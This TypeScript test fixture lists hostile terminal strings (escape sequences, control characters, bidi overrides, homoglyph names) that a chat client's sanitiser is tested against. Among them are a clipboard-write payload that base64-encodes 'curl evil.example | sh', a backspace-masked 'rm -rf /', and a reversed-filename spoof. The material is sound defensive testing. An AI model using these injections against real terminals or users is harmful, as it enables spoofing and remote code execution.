// A corpus of hostile strings for names and messages (PROTOCOL.md §7):
// each one tries to make a terminal do something (move the cursor, set the
// title, write the clipboard, make a hyperlink, ring the bell, hide or
// reorder text). Used by the resilience tests and by the TUI end-to-end
// test that sends them through a real server into the real TUI in a pty.
//
// For every entry:
// - `text` is what a hostile peer or server sends;
// - `forbidden` are substrings that must never appear in the bytes written
//   to the terminal (the raw control characters themselves);
// - `visible` is what the screen shows instead (sanitize()'s placeholder
//   form), a substring of the rendered line; '' where there is nothing
//   stable to look for.
// test/resilience/hostile-strings.test.ts checks each entry against the
// sanitiser, so the corpus and the sanitiser cannot drift apart silently.

export type HostileString = {
	/** Short id, usable in test names. */
	readonly name: string;
	readonly text: string;
	/** Raw substrings that must not reach the terminal. */
	readonly forbidden: readonly string[];
	/** The placeholder text the screen shows instead (for a multi-line message pane). */
	readonly visible: string;
};

const ESC = '\u001B';
const BEL = '\u0007';
const ST = ESC + '\\';
const CSI8 = '\u009B'; // C1 CSI
const OSC8 = '\u009D'; // C1 OSC
const DCS8 = '\u0090'; // C1 DCS

export const hostileStrings: readonly HostileString[] = [
	// --- CSI: cursor movement, erase, colours, modes, queries ---
	{name: 'csi-clear-screen', text: `before${ESC}[2J${ESC}[Hafter`, forbidden: [ESC], visible: '^[[2J^[[Hafter'},
	{name: 'csi-cursor-up-overwrite', text: `innocent${ESC}[1A${ESC}[2Kforged line`, forbidden: [ESC], visible: '^[[1A^[[2Kforged'},
	{name: 'csi-colour', text: `${ESC}[31;1mred alert${ESC}[0m`, forbidden: [ESC], visible: '^[[31;1mred alert^[[0m'},
	{name: 'csi-hide-cursor-alt-screen', text: `${ESC}[?25l${ESC}[?1049hgone`, forbidden: [ESC], visible: '^[[?25l^[[?1049hgone'},
	{name: 'csi-device-status-report', text: `${ESC}[6n${ESC}[c`, forbidden: [ESC], visible: '^[[6n^[[c'},
	{name: 'csi-8bit', text: `c1 csi ${CSI8}2J here`, forbidden: [CSI8], visible: 'c1 csi <U+009B>2J here'},
	// --- OSC: title (0, 2), hyperlink (8), clipboard (52), with BEL and ST terminators ---
	{name: 'osc-0-title-bel', text: `${ESC}]0;pwned title${BEL}x`, forbidden: [ESC, BEL], visible: '^[]0;pwned title^Gx'},
	{name: 'osc-2-title-st', text: `${ESC}]2;pwned${ST}x`, forbidden: [ESC], visible: '^[]2;pwned^[\\x'},
	{name: 'osc-8-hyperlink', text: `${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`, forbidden: [ESC], visible: '^[]8;;https://evil.example/^[\\click me'},
	{name: 'osc-52-clipboard', text: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}`, forbidden: [ESC, BEL], visible: '^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=^G'},
	{name: 'osc-8bit', text: `${OSC8}0;title${BEL}`, forbidden: [OSC8, BEL], visible: '<U+009D>0;title^G'},
	// --- DCS and other string sequences ---
	{name: 'dcs-decrqss', text: `${ESC}P$q"p${ST}`, forbidden: [ESC], visible: '^[P$q"p^[\\'},
	{name: 'dcs-8bit', text: `${DCS8}1$r0m${ESC}\\`, forbidden: [DCS8, ESC], visible: '<U+0090>1$r0m^[\\'},
	{name: 'apc-pm-sos', text: `${ESC}_apc${ST}${ESC}^pm${ST}${ESC}Xsos${ST}`, forbidden: [ESC], visible: '^[_apc^[\\^[^pm'},
	// --- C1 controls, one by one at the edges of the range ---
	{name: 'c1-range', text: `a\u0080b\u0085c\u008Ed\u009Fe`, forbidden: ['\u0080', '\u0085', '\u008E', '\u009F'], visible: 'a<U+0080>b<U+0085>c<U+008E>d<U+009F>e'},
	// --- C0: BEL, BS, CR, NUL, DEL, form feed, vertical tab ---
	{name: 'bel', text: `ding${BEL}${BEL}${BEL}`, forbidden: [BEL], visible: 'ding^G^G^G'},
	{name: 'backspace-overwrite', text: `rm -rf /\b\b\b\b\b\b\bls -l   `, forbidden: ['\b'], visible: 'rm -rf /^H^H^H^H^H^H^Hls -l'},
	{name: 'carriage-return-overwrite', text: `real text\rFAKE`, forbidden: ['\r'], visible: 'real text^MFAKE'},
	{name: 'crlf', text: `line one\r\nline two`, forbidden: ['\r'], visible: 'line one^M'},
	{name: 'nul-del-ff-vt', text: `a\u0000b\u007Fc\fd\ve`, forbidden: ['\u0000', '\u007F', '\f', '\v'], visible: 'a^@b^?c^Ld^Ke'},
	// --- bidi overrides and isolates: reorder what the reader sees ---
	{name: 'bidi-rlo', text: `invoice\u202Efdp.exe`, forbidden: ['\u202E'], visible: 'invoice<U+202E>fdp.exe'},
	{name: 'bidi-all', text: `\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee`, forbidden: ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E'], visible: '<U+202A>a<U+202B>b<U+202C>c<U+202D>d<U+202E>e'},
	{name: 'bidi-isolates', text: `x\u2066y\u2067z\u2068w\u2069v`, forbidden: ['\u2066', '\u2067', '\u2068', '\u2069'], visible: 'x<U+2066>y<U+2067>z<U+2068>w<U+2069>v'},
	// --- zero-width and invisible characters: hide text, fake names ---
	{name: 'zero-width', text: `ad\u200Bmin\u2060said\uFEFFhi`, forbidden: ['\u200B', '\u2060', '\uFEFF'], visible: 'ad<U+200B>min<U+2060>said<U+FEFF>hi'},
	// Joiners are kept inside emoji and between letters (long-word-emoji below), so
	// the raw joiner is not listed as forbidden: a union of every entry's
	// `forbidden` must hold for one screen showing all of them.
	{name: 'zero-width-joiner-alone', text: `\u200Dx\u200C`, forbidden: [], visible: '<U+200D>x<U+200C>'},
	{name: 'soft-hyphen-and-tags', text: `pay\u00ADpal \u{E0041}\u{E0042}`, forbidden: ['\u00AD', '\u{E0041}'], visible: 'pay<U+00AD>pal <U+E0041><U+E0042>'},
	{name: 'line-separators', text: `a\u2028b\u2029c`, forbidden: ['\u2028', '\u2029'], visible: 'a<U+2028>b<U+2029>c'},
	// --- lone surrogates (from \ud800 escapes in JSON) ---
	{name: 'lone-surrogates', text: `x\uD800y\uDFFFz`, forbidden: ['\uD800', '\uDFFF'], visible: 'x\uFFFDy\uFFFDz'},
	// --- very long unbroken words: must wrap, not run off the screen or stall ---
	{name: 'long-word-ascii', text: 'A'.repeat(4000), forbidden: [], visible: 'AAAAAAAAAA'},
	{name: 'long-word-wide', text: '漢'.repeat(2000), forbidden: [], visible: '漢漢漢漢漢'},
	{name: 'long-word-emoji', text: '👨‍👩‍👧'.repeat(500), forbidden: [], visible: ''},
	{name: 'long-escape-run', text: `${ESC}[1m`.repeat(1000), forbidden: [ESC], visible: '^[[1m^[[1m'},
];

/**
 * Hostile user names. Our server refuses all of these (names are letters,
 * digits, `_`, `-`, `.`), but the 2015 server accepts any name and a hostile
 * server may send anything, so the client must render them safely.
 * Each is at most 32 characters, so it passes length checks.
 */
export const hostileNames: readonly HostileString[] = [
	{name: 'name-csi', text: `${ESC}[2Jroot`, forbidden: [ESC], visible: '^[[2Jroot'},
	{name: 'name-osc-title', text: `${ESC}]0;x${BEL}bob`, forbidden: [ESC, BEL], visible: '^[]0;x^Gbob'},
	{name: 'name-osc-52', text: `${ESC}]52;c;ZWNobw==${BEL}`, forbidden: [ESC, BEL], visible: '^[]52;c;ZWNobw==^G'},
	{name: 'name-c1', text: `eve\u009B31m`, forbidden: ['\u009B'], visible: 'eve<U+009B>31m'},
	{name: 'name-bidi', text: `admin\u202Enimda`, forbidden: ['\u202E'], visible: 'admin<U+202E>nimda'},
	{name: 'name-zero-width', text: `ali\u200Bce`, forbidden: ['\u200B'], visible: 'ali<U+200B>ce'},
	{name: 'name-newline', text: `bob\n<alice> hi`, forbidden: [], visible: 'bob⏎<alice> hi'},
	{name: 'name-cr-bs', text: `x\r\bmallory`, forbidden: ['\r', '\b'], visible: 'x^M^Hmallory'},
];

/**
 * Names our server accepts that still try to mislead: homoglyphs, mixed
 * scripts, right-to-left letters (not overrides), maximum length.
 */
export const trickyValidNames: readonly string[] = [
	'\u0430lice', // Cyrillic а, looks like "alice"
	'\u05D0\u05D1\u05D2', // Hebrew letters: right-to-left, but no override
	'x'.repeat(32),
	'漢字漢字',
	'Ω.-_0',
];

/** Every C0 (but newline and tab), DEL and C1 control: none may reach the terminal. */
export const rawControls: readonly string[] = [
	...Array.from({length: 0x20}, (_, code) => String.fromCharCode(code)).filter(char => char !== '\n' && char !== '\t'),
	'\u007F',
	...Array.from({length: 0x20}, (_, index) => String.fromCharCode(0x80 + index)),
];
